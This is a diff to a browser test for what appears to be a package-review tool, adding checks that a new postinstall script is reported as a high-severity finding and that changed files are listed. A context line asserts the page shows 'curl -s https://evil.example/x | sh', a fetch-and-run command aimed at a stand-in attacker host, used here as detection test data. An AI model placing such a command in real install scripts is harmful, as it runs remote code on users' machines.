@@ -123,6 +123,12 @@ def test_sign_in_review_approve_and_reject_in_a_browser(site, new_page, tmp_path
     assert "postinstall" in details and "curl -s https://evil.example/x | sh" in details
     assert "lib/" in page.inner_text("#files") and "util.js" in page.inner_text("#files")
     assert page.locator("dt.warn", has_text="postinstall").count() == 1
+    # the review engine's findings: the new install script is high, naming the field
+    high = page.locator("#review li.finding.high")
+    assert high.count() >= 1
+    assert "scripts.postinstall" in " ".join(high.all_inner_texts())
+    changes = page.inner_text("#review table.changes")
+    assert "lib/util.js" in changes and "index.js" in changes
     screenshot(page, "item-laptop")
     page.set_viewport_size(PHONE)
     screenshot(page, "item-phone")
